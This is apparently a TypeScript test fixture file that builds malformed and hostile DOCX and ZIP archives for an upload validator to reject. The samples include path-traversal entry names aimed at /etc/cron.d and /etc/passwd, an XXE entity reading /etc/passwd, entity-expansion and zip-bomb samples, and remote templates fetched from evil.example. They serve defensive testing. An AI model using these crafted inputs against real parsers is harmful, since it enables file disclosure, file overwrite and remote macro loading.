import { createHash } from "node:crypto";
import {
  docx,
  DOCUMENT_PART,
  RELATIONS_PART,
  typed,
  TYPES_PART,
  zip,
  type Refusal,
  type ZipPart,
} from "./zip.ts";

export const MB = 1024 * 1024;
export const pdf = Buffer.from("%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n");
export const zeros = Buffer.alloc(MB);
export const relations = (target: string): Buffer =>
  docx({
    name: "word/_rels/settings.xml.rels",
    data: `<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`,
  });

/**
 * Unclosed elements, on which a pattern that searches for the end takes seconds; hardly
 * compressible data balances the compression.
 */
export const openings = (...names: string[]): ZipPart[] => [
  ...names.map((name) => ({ name, data: `<Relationships>${"<Relationship ".repeat(18_500)}` })),
  {
    name: "word/media/a.png",
    data: Array.from({ length: 60 * names.length }, (_, index) =>
      createHash("sha256").update(String(index)).digest("base64"),
    ).join(""),
    stored: true,
  },
];
/** 11 kB on which three patterns took ten seconds. */
export const busyDocx = (): Buffer =>
  docx(...openings("word/_rels/a.rels", "word/_rels/b.rels", "word/_rels/c.rels"));
export const outside = (target: string): string =>
  `<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="${target}"/></Relationships>`;

export const noise = Array.from(
  { length: 3000 },
  (_, index) =>
    `<Relationship Id="${createHash("sha256").update(String(index)).digest("hex")}" Target="a"/>`,
).join("");

export const notDocx = (): Refusal[] => [
  ["a plain archive", zip([{ name: "readme.txt", data: "hello" }])],
  ["an empty archive", zip([])],
  [
    "content types of a workbook",
    typed((types) => types.replace("wordprocessingml.document", "spreadsheetml.sheet")),
  ],
  [
    "content types of a macro document",
    typed((types) =>
      types.replace(
        "vnd.openxmlformats-officedocument.wordprocessingml.document.main",
        "vnd.ms-word.document.macroEnabled.main",
      ),
    ),
    "macros",
  ],
  [
    "content types with both",
    typed((types) =>
      types.replace(
        "</Types>",
        '<Override PartName="/x" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
      ),
    ),
    "macros",
  ],
  ["a macro project", docx({ name: "word/vbaProject.bin", data: "x" }), "macros"],
  ["a macro project in capitals", docx({ name: "WORD/VBAPROJECT.BIN", data: "x" }), "macros"],
  ["a macro project by another way", docx({ name: "other/vbaProject.bin", data: "x" }), "macros"],
  ["a program within", docx({ name: "word/embeddings/invoice.exe", data: "MZ" })],
  ["a shortcut within", docx({ name: "word/embeddings/open.lnk", data: "L" })],
  ["a script within", docx({ name: "word/media/logo.js", data: "WScript" })],
  ["a way out", docx({ name: "../../etc/cron.d/x", data: "x" })],
  ["a way out in the middle", docx({ name: "word/../../x", data: "x" })],
  ["a way out by backslashes", docx({ name: "..\\..\\x", data: "x" })],
  ["a way out in the middle by backslashes", docx({ name: "word\\..\\..\\x", data: "x" })],
  ["a path from the root by a backslash", docx({ name: "\\etc\\passwd", data: "x" })],
  ["a path from a drive by a backslash", docx({ name: "C:\\windows\\x", data: "x" })],
  [
    "an OpenDocument",
    zip([
      { name: "mimetype", data: "application/vnd.oasis.opendocument.text", stored: true },
      { name: "content.xml", data: "<x/>" },
    ]),
    "open-document",
  ],
  ["a path from the root", docx({ name: "/etc/passwd", data: "x" })],
  ["a path from a drive", docx({ name: "C:/windows/x", data: "x" })],
  ["a symbolic link", docx({ name: "word/link.xml", data: "/etc/passwd", mode: 0o120777 })],
  [
    "2,001 entries",
    docx(
      ...Array.from({ length: 1998 }, (_, index) => ({
        name: `word/${index}.xml`,
        data: "",
        stored: true,
      })),
    ),
  ],
  ["65,000 entries, by its own word", zip([TYPES_PART, DOCUMENT_PART], { count: 65_000 })],
  [
    "101 MB, honestly",
    docx(
      ...Array.from({ length: 101 }, (_, index) => ({
        name: `word/media/${index}.bin`,
        data: zeros,
      })),
    ),
  ],
  ["4 GB, by its own word", docx({ name: "word/big.xml", data: "x", size: 0xfffffff0 })],
  ["more than it promises", docx({ name: "word/media/a.bin", data: zeros, size: 100 })],
  ["less than it promises", docx({ name: "word/media/a.bin", data: "x".repeat(10), size: 1000 })],
  [
    "entries that share bytes",
    docx(
      ...Array.from({ length: 50 }, (_, index) => ({
        name: `word/${index}.xml`,
        data: "x".repeat(100),
        offset: 0,
      })),
    ),
  ],
  ["an entry past the end", docx({ name: "word/a.xml", data: "x", offset: 0x7fffffff })],
  ["a directory past the end", zip([TYPES_PART, DOCUMENT_PART], { directoryOffset: 0x7ffffff0 })],
  ["a directory at the beginning", zip([TYPES_PART, DOCUMENT_PART], { directoryOffset: 0 })],
  ["an encrypted entry", docx({ name: "word/a.xml", data: "x", flags: 0x0801 })],
  ["an unknown compression method", docx({ name: "word/a.xml", data: "x", method: 99 })],
  [
    "broken deflate",
    docx({
      name: "word/a.xml",
      data: Buffer.from([0xff, 0xff, 0xff]),
      stored: true,
      method: 8,
      size: 100,
    }),
  ],
  [
    "entities that grow",
    docx({
      name: "word/styles.xml",
      data: '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>',
    }),
  ],
  [
    "entities in its content types",
    typed((types) =>
      types.replace("<Types", '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><Types'),
    ),
  ],
  ["a template from elsewhere", relations("https://evil.example/macro.dotm"), "outside"],
  [
    "a template from elsewhere, its address written in entities",
    docx({
      name: "word/_rels/settings.xml.rels",
      data: outside("&#104;ttps://evil.example/macro.dotm"),
    }),
    "outside",
  ],
  [
    "a template from elsewhere, in UTF-16",
    docx({
      name: "word/_rels/settings.xml.rels",
      data: Buffer.from(`\ufeff${outside("https://evil.example/macro.dotm")}`, "utf16le"),
    }),
    "outside",
  ],
  [
    "a template from elsewhere, past the first 256 kB",
    docx({
      name: "word/_rels/settings.xml.rels",
      data: `<Relationships>${noise}${outside("https://evil.example/macro.dotm").slice(15)}`,
    }),
    "outside",
  ],
  ["a part that opens an element 18,500 times", docx(...openings("word/_rels/a.rels"))],
  ["three of them", busyDocx()],
  [
    "an encoding that no package may have",
    docx({ name: "word/styles.xml", data: '<?xml version="1.0" encoding="UTF-7"?><x/>' }),
  ],
  [
    "entities that grow, in UTF-16",
    docx({
      name: "word/styles.xml",
      data: Buffer.from('\ufeff<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>', "utf16le"),
    }),
  ],
  [
    "5 MB of relations",
    docx({ name: "word/_rels/a.rels", data: `<Relationships>${noise.repeat(17)}</Relationships>` }),
  ],
  [
    "something before its beginning",
    zip([TYPES_PART, RELATIONS_PART, DOCUMENT_PART], { before: Buffer.from("MZ program") }),
  ],
  ["its second half missing", docx().subarray(0, 300)],
  ["nothing but the mark", Buffer.from("PK\u0003\u0004")],
];
